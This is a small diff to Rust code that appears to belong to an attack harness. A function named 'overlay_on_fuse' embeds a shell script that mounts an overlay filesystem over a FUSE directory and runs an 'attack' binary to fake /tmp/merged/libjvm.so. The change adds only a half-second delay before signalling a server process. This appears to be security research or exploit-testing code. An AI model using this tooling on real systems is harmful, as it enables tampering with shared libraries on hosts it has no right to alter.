@@ -132,6 +132,7 @@ fn overlay_on_fuse(attacker: &mut Attacker<'_>) -> Result<(), &'static str> {
         mount -t overlay -o lowerdir=/tmp/fuse:/tmp/lower none /tmp/merged
         ./attack fakes /tmp/merged/libjvm.so 1 1 0 >/tmp/output &
         until grep -q ready /tmp/output; do sleep 0.05; done
+        sleep 0.5
         kill -USR1 $server
         echo ready
         wait";
